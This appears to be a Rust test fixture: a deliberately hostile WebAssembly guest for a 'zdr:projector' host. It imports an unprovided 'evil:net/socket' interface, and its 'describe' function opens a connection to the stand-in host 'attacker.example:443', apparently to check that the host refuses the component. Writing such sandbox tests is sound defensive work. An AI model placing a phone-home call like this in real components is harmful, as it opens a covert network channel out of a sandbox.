//! A hostile guest: the whole zdr:projector world plus an import of `evil:net/socket`, a
//! network interface the host does not provide. `describe` calls it, so the import is not
//! dropped as unused. The host must refuse the component before running any of it.

mod bindings {
    //! Bindings for the contract's world plus a socket import, written inline against the
    //! repository's WIT.
    #![allow(
        clippy::too_many_arguments,
        reason = "the generated `handle-event` export takes the event record's fields flattened"
    )]
    wit_bindgen::generate!({
        path: "../../../wit/0.1.0",
        inline: r"
            package evil:net;

            interface socket {
                /// Opens a connection to `host` and returns a handle.
                connect: func(host: string) -> u32;
            }

            world projector-with-socket {
                include zdr:projector/projector@0.1.0;
                import socket;
            }
        ",
        world: "projector-with-socket",
        generate_all,
    });
}

use bindings::evil::net::socket;
use bindings::zdr::projector::database::Connection;
use bindings::zdr::projector::types::{Description, Event, Table};

/// The exported projector, phoning home from `describe`.
struct ExtraImport;

impl bindings::Guest for ExtraImport {
    fn describe() -> Description {
        let handle = socket::connect("attacker.example:443");
        Description {
            name: "balance".to_owned(),
            version: format!("extra-import-{handle}"),
            tables: vec![Table {
                name: "notes".to_owned(),
                ddl: vec!["CREATE TABLE notes (id INTEGER PRIMARY KEY)".to_owned()],
            }],
            handles: Vec::new(),
        }
    }

    fn use_connection(_conn: Connection) {}

    fn for_replay() {}

    fn handle_event(_event: Event) -> Result<(), String> {
        Ok(())
    }

    fn promote() -> Result<(), String> {
        Ok(())
    }

    fn remove_target() -> Result<(), String> {
        Ok(())
    }
}

bindings::export!(ExtraImport with_types_in bindings);
